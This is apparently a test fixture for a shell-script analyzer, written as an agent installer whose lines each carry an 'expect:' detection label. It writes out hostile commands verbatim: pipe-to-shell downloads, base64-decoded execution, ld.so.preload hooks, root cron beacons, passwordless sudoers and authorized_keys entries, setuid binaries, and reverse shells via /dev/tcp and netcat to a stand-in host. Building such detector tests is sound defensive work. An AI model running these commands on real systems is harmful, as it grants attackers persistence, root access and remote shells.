#!/bin/sh -e
# Installer for the agent. A line marked "expect:" carries the observations the script
# analyzer must make on it; every other line must give none.
set -u
PREFIX=/opt/agent
curl -fsSL https://example.com/get.sh | sh   # expect: pipe-to-shell
wget -qO- https://example.com/get.sh | sudo -E bash -s -- --yes   # expect: pipe-to-shell
sh -c "$(curl -fsSL https://example.com/x.sh)"   # expect: pipe-to-shell
curl -s https://example.com/a \
  -H 'Accept: text/plain' \
  | bash   # expect: pipe-to-shell
echo ZWNobyBoaQo= | base64 -d | sh   # expect: base64-to-interpreter
eval "$(echo ZWNobyBoaQo= | base64 --decode)"   # expect: base64-to-interpreter,dynamic-eval
eval "$CMD"   # expect: dynamic-eval
echo "$PREFIX/lib/libhook.so" > /etc/ld.so.preload   # expect: ld-so-preload-write
grep -q libhook /etc/ld.so.preload || true   # expect: ld-so-preload-reference
echo "* * * * * root /opt/agent/bin/beacon" | crontab -   # expect: cron-entry
cat > /etc/cron.d/agent <<EOF   # expect: cron-entry
*/5 * * * * root /opt/agent/bin/check
EOF
cat > /etc/systemd/system/agent.service <<EOF   # expect: systemd-unit
[Unit]
Description=agent
EOF
systemctl enable --now agent.service   # expect: systemd-unit
useradd -r -s /bin/false agent   # expect: user-add
echo 'agent:secret' | chpasswd   # expect: password-set
echo 'agent ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers.d/agent   # expect: sudoers-write
mkdir -p /root/.ssh && echo "ssh-ed25519 AAAA key" >> /root/.ssh/authorized_keys   # expect: authorized-keys
chmod u+s /opt/agent/bin/helper   # expect: setuid-chmod
chmod 4755 /opt/agent/bin/helper2   # expect: setuid-chmod
install -m 6755 helper3 /opt/agent/bin/   # expect: setuid-chmod
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1   # expect: dev-tcp
nc -e /bin/sh 192.0.2.1 4444   # expect: netcat-exec
ncat --exec /bin/bash 192.0.2.1 4444   # expect: netcat-exec
curl -fsSL https://example.com/get.sh | sudo bash -ex   # expect: pipe-to-shell
curl -fsSL https://example.com/get.py | python3 -   # expect: pipe-to-shell
exit 0
